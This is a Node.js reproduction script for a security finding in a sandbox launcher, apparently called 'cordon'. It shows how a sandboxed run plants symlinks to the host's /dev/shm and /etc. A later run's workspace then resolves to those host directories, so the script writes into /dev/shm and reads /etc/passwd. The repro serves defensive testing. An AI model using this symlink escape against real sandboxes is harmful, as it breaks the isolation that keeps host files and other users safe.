'use strict';

// Finding (round 3): the launcher follows symlinks in the `workspace` and
// `extra` paths a provider names. A sandbox with a writable workspace plants
// a symlink there (`ln -s /dev/shm /workspace/cache`); a later run whose
// workspace (or extra path) is that subdirectory — a provider giving a task
// a subfolder of an earlier task's project — gets the symlink's TARGET bound
// in: here the host's own /dev/shm, read-write (unbounded host RAM, other
// providers' control-root bases listed), or any host directory its uid may
// read (/etc, /home/*). The receipt names only "workspace: write"; its
// observed mount says tmpfs, not which host directory.
// Run as root: node __test__/security/findings/workspace-symlink-redirect.repro.js

const fs = require('node:fs');
const cordon = require('../../..');

const RESERVED_OWNER = 0x7000_0000; // a reserved workspace owner (harness.js SANDBOX_UID)
const project = fs.mkdtempSync('/var/tmp/cordon-round3-project-');
fs.chmodSync(project, 0o755);
if (process.geteuid() === 0) fs.chownSync(project, RESERVED_OWNER, RESERVED_OWNER);

async function run(script, workspace) {
  const ex = cordon.spawnIsolated(['/bin/sh', '-c', script], { policy: cordon.workspaceWrite(), workspace });
  let out = '';
  ex.stderr.on('data', (d) => { out += d; });
  ex.protocol.resume();
  const r = await ex.wait();
  return { out: out.trim(), returncode: r.returncode, workspaceMount: r.receipt.confinement.observed.mounts.find((m) => m.path === '/workspace') };
}

(async () => {
  const marker = `round3-planted-${process.pid}`;
  try {
    // Run 1 (the attacker, in its own workspace): plants the link.
    await run('ln -s /dev/shm /workspace/cache && ln -s /etc /workspace/config', project);
    // Run 2: the provider hands a later task the subfolder `cache`.
    const second = await run(`ls /workspace; echo from-the-sandbox > /workspace/${marker}`, `${project}/cache`);
    console.log('run 2 lists its /workspace:', JSON.stringify(second.out), 'mount:', JSON.stringify(second.workspaceMount));
    const onHost = fs.existsSync(`/dev/shm/${marker}`);
    console.log(`host /dev/shm/${marker} exists:`, onHost);
    const third = await run('head -3 /workspace/passwd', `${project}/config`);
    console.log('run 3 reads the host /etc/passwd:', JSON.stringify(third.out));
    if (onHost) console.log('OPEN: a sandbox redirected a later run\'s workspace to the host /dev/shm (read-write)');
  } finally {
    fs.rmSync(`/dev/shm/${marker}`, { force: true });
    fs.rmSync(project, { recursive: true, force: true });
  }
})();
